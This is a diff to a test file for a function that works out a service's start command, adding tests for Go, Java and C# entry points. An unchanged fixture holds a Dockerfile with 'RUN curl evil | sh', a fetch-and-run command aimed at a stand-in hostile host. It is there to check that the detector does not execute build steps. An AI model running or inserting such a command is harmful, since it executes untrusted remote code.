@@ -35,6 +35,16 @@ describe('finding how a service starts', () => {
     expect(detect({ 'millwright.json': text, 'app/__main__.py': SERVER })).toMatchObject({ start: ['python3', '-m', 'app'] });
   });
 
+  it.each([
+    ['go', 'cmd/server/main.go', 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8080", nil)\n}\n', ['./cmd/server']],
+    ['go', 'main.go', 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8080", nil)\n}\n', ['./']],
+    ['java', 'src/main/java/app/Main.java', 'package app;\nclass Main { public static void main(String[] a) { new HttpServer(); } }', ['app.Main']],
+    ['csharp', 'src/Program.cs', 'class Program { static void Main() { new HttpListener(); } }', []],
+  ])('lets the image compile and start a program in %s: %s', (language, path, text, rest) => {
+    expect(detect({ [path]: text }, language)).toMatchObject({ start: ['/opt/sandbox/start.sh', ...rest] });
+    expect(detect({ [path]: text.replace(/main\(|Main\(/i, 'helper(') }, language)).toBeNull();
+  });
+
   it('reads the CMD of a Dockerfile without running anything of it', () => {
     expect(detect({ Dockerfile: 'FROM python\nRUN curl evil | sh\nEXPOSE 9000\nCMD ["python", "-m", "app"]\n' })).toEqual({
       start: ['python', '-m', 'app'],
